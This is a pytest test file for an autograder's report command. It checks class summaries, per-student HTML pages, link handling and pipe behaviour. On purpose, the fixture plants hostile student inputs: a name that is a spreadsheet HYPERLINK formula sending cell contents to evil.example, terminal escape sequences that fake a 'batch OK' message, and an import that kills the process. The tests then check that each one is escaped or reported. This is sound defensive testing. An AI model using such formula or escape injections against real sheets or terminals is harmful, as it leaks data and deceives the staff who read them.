"""./grader report on a graded toy class: what staff read in the terminal and in the HTML pages."""
import json
import re
import shutil
import subprocess
import sys

import pytest

from .helpers import CORRECT, REPO, grader, toy_options

ESCAPES = "\x1b[H\x1b[J\x1bc"
FORMULA = '=HYPERLINK("http://evil.example/?"&B3&B4,"Regrade")'


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory):
    """A toy class graded once: two right, two with the same constant-factor bug in scale, one empty
    upload, one without toy.py, one that cannot be imported, one whose error message holds terminal
    escapes and a fake 'batch OK', and one whose student is named like a spreadsheet formula."""
    root = tmp_path_factory.mktemp("report")
    export = root / "export"
    correct = (CORRECT / "toy.py").read_text()
    variants = {
        "ada": correct, "bob": correct,
        "cat": correct.replace("return c * x", "return 0.5 * c * x"),
        "dan": correct.replace("return c * x", "return 0.5 * c * x"),
        "eli": None, "fay": "missing",
        "gus": "import os\nos._exit(0)\n",
        "hal": correct.replace("return c * x", f"raise ValueError({ESCAPES + ' batch OK'!r})"),
        "ivy": correct,
    }
    assert "0.5 * c * x" in variants["cat"]
    lines = []
    for name, toy in variants.items():
        folder = export / name
        shutil.copytree(CORRECT, folder)
        if toy is None:
            for path in folder.iterdir():
                path.unlink()
            (folder / "notes.txt").write_text("forgot the files")
        elif toy == "missing":
            (folder / "toy.py").unlink()
        else:
            (folder / "toy.py").write_text(toy)
        student = FORMULA if name == "ivy" else name.title()
        lines += [f"{name}:", "  :submitters:", f"  - :name: {json.dumps(student)}", f"    :sid: '{len(lines)}'",
                  f"    :email: {name}@example.edu"]
    (export / "submission_metadata.yml").write_text("\n".join(lines) + "\n")
    out = root / "out"
    grader("batch", export, "--out", out, *toy_options())
    return out


@pytest.fixture(scope="module")
def report(graded_class):
    return grader("report", graded_class).stdout


def section(report, title):
    return report.split(title)[1].split("\n\n")[0]


def test_a_missing_file_and_an_empty_upload_are_counted_apart_from_wrong_code(report):
    files = section(report, "Files missing or not importable")
    assert "1 submission(s) had none of the expected files: eli" in files
    assert "toy.py: file missing, 1 submission(s): toy.py was not found in your submission" in files
    assert "toy.py: crashed on import, 1 submission(s): Importing toy.py ended the process" in files
    functions = section(report, "Functions the class got wrong")
    assert "was not found" not in functions and "Importing toy.py" not in functions


def test_a_hint_shared_by_several_submissions_is_the_first_clue_under_its_function(report):
    functions = section(report, "Functions the class got wrong")
    scale = functions.split("toy.py:scale")[1].split("%")[0]
    assert "(3 submission(s) wrong, 0 not attempted)" in scale
    assert "2 x hint: every value is 0.5 times the expected one: a constant factor is missing" in scale


def test_misconceptions_named_in_the_records_are_counted_per_function(graded_class, tmp_path):
    out = shutil.copytree(graded_class, tmp_path / "out")
    for name in ("cat", "dan"):  # as issue 9's checks record them: ids on the failed outcomes
        path = out / "results" / name / "record.json"
        record = json.loads(path.read_text())
        for outcome in record["outcomes"]:
            if outcome["fraction"] < 1 and "scale" in outcome["functions"]:
                outcome["misconceptions"] = ["scale-halved"]
        path.write_text(json.dumps(record))
    report = grader("report", out).stdout
    scale = section(report, "Functions the class got wrong").split("toy.py:scale")[1]
    assert "2 x misconception: scale-halved" in scale
    assert "scale-halved" in (out / "report.html").read_text()


def test_student_text_reaches_the_terminal_with_its_escapes_shown(report):
    assert "\x1b" not in report
    assert "\\x1b[H\\x1b[J\\x1bc batch OK" in report


def test_the_class_page_draws_the_distribution_and_pass_rates_and_links_every_submission(graded_class, report):
    page = (graded_class / "report.html").read_text()
    assert page.count("<svg") == 2 and 'aria-label="share of tests passed per function"' in page
    assert "<script" not in page and not re.search(r"""(src|href)=["']?(https?:)?//""", page)
    links = re.findall(r'href="report/([^"]+)"', page)
    assert set(links) == {f"{name}.html" for name in ("ada", "bob", "cat", "dan", "eli", "fay", "gus", "hal", "ivy")}
    assert all((graded_class / "report" / link).exists() for link in links)


def test_student_text_in_the_html_is_escaped(graded_class):
    page = (graded_class / "report.html").read_text()
    assert FORMULA not in page and "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;B3" in page
    student = (graded_class / "report" / "hal.html").read_text()
    assert "\x1b" not in student and "\\x1b[H\\x1b[J\\x1bc batch OK" in student


def test_a_students_page_shows_the_failed_tests_with_their_full_feedback(graded_class):
    page = (graded_class / "report" / "cat.html").read_text()
    assert "Cat" in page and "@example.edu" in page
    failed = page.split("failed test(s)</h2>")[1].split("<details>")[0]
    assert "At y[0]: expected 2, got 1." in failed  # the visible version, hidden tests included
    assert "<details><summary>" in page and "passed test(s)" in page


def test_report_into_a_closed_pipe_ends_quietly(graded_class):
    """./grader report BATCH | head: the reader leaves early; no BrokenPipe traceback."""
    process = subprocess.Popen([sys.executable, "-I", str(REPO / "source" / "staff"), "report", str(graded_class)],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
    process.stdout.close()
    stderr = process.stderr.read().decode()
    assert process.wait(timeout=120) == 0 and "Traceback" not in stderr and "BrokenPipe" not in stderr, stderr


def test_report_on_an_empty_folder_says_so_and_fails(tmp_path):
    proc = grader("report", tmp_path, check=False)
    assert proc.returncode == 1 and "no graded submissions" in proc.stdout
